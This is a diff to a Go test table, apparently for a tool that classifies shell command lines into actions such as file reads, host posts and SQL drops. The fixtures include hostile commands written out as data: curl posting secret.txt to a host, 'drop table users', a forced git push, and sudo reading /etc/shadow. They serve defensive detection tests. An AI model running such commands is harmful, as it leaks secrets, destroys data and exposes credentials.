@@ -46,8 +46,8 @@ func TestCommandLinesAreRead(t *testing.T) {
 			"command:curl -d @secret.txt http://h:8080/x", "file.read:/work/secret.txt", "host.post:h:8080",
 		},
 		"ssh -p 2222 bob@h.example uptime": {"command:ssh -p 2222 bob@h.example uptime", "host.connect:h.example:22", "command:uptime"},
-		"git -C x push --force":            {"command:git -C x push --force", "command:git push --force"},
-		"psql -c 'drop table users'":       {"command:psql -c 'drop table users'", "sql.drop:users"},
+		"git -C x push --force":            {"command:git -C x push --force", "host.connect:", "command:git push --force"},
+		"psql -c 'drop table users'":       {"command:psql -c 'drop table users'", "sql.drop:users", "host.connect:"},
 		"sudo -u root env A=1 nice -n 5 cat /etc/shadow": {
 			"command:sudo -u root env A=1 nice -n 5 cat /etc/shadow", "command:env A=1 nice -n 5 cat /etc/shadow", "command:nice -n 5 cat /etc/shadow", "command:cat /etc/shadow", "file.read:/etc/shadow",
 		},
